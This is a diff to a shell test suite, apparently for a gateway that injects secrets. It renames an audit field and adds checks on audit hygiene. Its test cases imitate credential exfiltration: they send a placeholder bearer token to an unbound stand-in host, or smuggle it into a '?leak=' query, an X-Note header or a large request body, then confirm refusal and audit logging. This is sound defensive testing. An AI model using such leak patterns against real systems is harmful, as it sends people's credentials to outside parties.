@@ -390,14 +390,14 @@ exfil() {
   json_check "  the refusal: rule secrets, reason names '$sec' and '$word'" "$b" \
     ".rule == \"secrets\" and (.reason | contains(\"$sec\")) and (.reason | ascii_downcase | contains(\"$word\"))"
   up_none "  nothing reached the upstream" "$path"
-  q=".event==\"exfiltration_attempt\" and .secret==\"$sec\" and ((.path // \"$path\") | startswith(\"$path\"))"
+  q=".type==\"exfiltration_attempt\" and .secret==\"$sec\" and ((.path // \"$path\") | startswith(\"$path\"))"
   [ -n "$place" ] && q="$q and ((.place // \"\") | ascii_downcase)==\"$place\""
   check "  audit: exfiltration_attempt, secret $sec${place:+, place $place}" audit_wait "$q"
 }
 exfil "unbound host (other.example.test)" /e/ex-host gh header:authorization authorization \
   -H "Authorization: Bearer $GH_PH" https://other.example.test/e/ex-host
 check "  audit: the exfiltration record names the host" \
-  audit_wait '.event=="exfiltration_attempt" and .host=="other.example.test" and .secret=="gh"'
+  audit_wait '.type=="exfiltration_attempt" and .host=="other.example.test" and .secret=="gh"'
 exfil "bound host, unbound place: query ?leak=" /e/ex-query gh query:leak leak "https://api.example.test/e/ex-query?leak=$GH_PH"
 exfil "bound host, unbound place: another header (X-Note)" /e/ex-note gh header:x-note x-note \
   -H "X-Note: token is $GH_PH" https://api.example.test/e/ex-note
@@ -535,7 +535,7 @@ st=$(rc --connect api.example.test:443 --timeout 20 --send "@$T/big.req" 2>/dev/
 check_match "a 2 MiB body with a placeholder at 1.5 MiB: refused or aborted (403 or no answer)" '^(403|000)$' "$st"
 check_nomatch "  the upstream never completed that body" '"complete": true' "$(up_done /e/body-2m)"
 check "  audit: an exfiltration_attempt in the body was recorded" \
-  audit_wait '.event=="exfiltration_attempt" and .secret=="gh" and ((.place // "") | ascii_downcase)=="body"'
+  audit_wait '.type=="exfiltration_attempt" and .secret=="gh" and ((.place // "") | ascii_downcase)=="body"'
 check_eq "no placeholder ever reached the upstream, in any request (head or body)" 0 "$(grep -c 'PH_' "$ELOG")"
 
 # ---------------------------------------------------------------- a secret whose source fails
@@ -585,10 +585,12 @@ check_eq "gzip + chunked (x-api-key): the upstream really sent gzip" gzip "$(up_
 no_forms "gzip + chunked (x-api-key): no form of the value in the body" "$b" KEY
 
 # ---------------------------------------------------------------- audit hygiene
-check "audit: no record carries a secrets entry with anything but name and place" \
-  sh -c "[ \"\$(jq -s '[.[] | .secrets[]? | keys | select(. != [\"name\",\"place\"])] | length' '$AUDIT')\" = 0 ]"
+check "audit: no request record carries a secrets entry with anything but name and place" \
+  sh -c "[ \"\$(jq -s '[.[] | select(.type==\"request\") | .secrets[]? | keys | select(. != [\"name\",\"place\"])] | length' '$AUDIT')\" = 0 ]"
+check "audit: scrub records name secrets only (an array of names)" \
+  sh -c "[ \"\$(jq -s '[.[] | select(.type==\"scrub\") | select((.secrets | type) != \"array\" or any(.secrets[]; type != \"string\"))] | length' '$AUDIT')\" = 0 ]"
 check "audit: every exfiltration_attempt names a secret and a place" \
-  sh -c "[ \"\$(jq -s '[.[] | select(.event==\"exfiltration_attempt\") | select((.secret|type)!=\"string\" or (.place|type)!=\"string\")] | length' '$AUDIT')\" = 0 ]"
+  sh -c "[ \"\$(jq -s '[.[] | select(.type==\"exfiltration_attempt\") | select((.secret|type)!=\"string\" or (.place|type)!=\"string\")] | length' '$AUDIT')\" = 0 ]"
 
 # ---------------------------------------------------------------- the real values are nowhere
 gw_stop 20
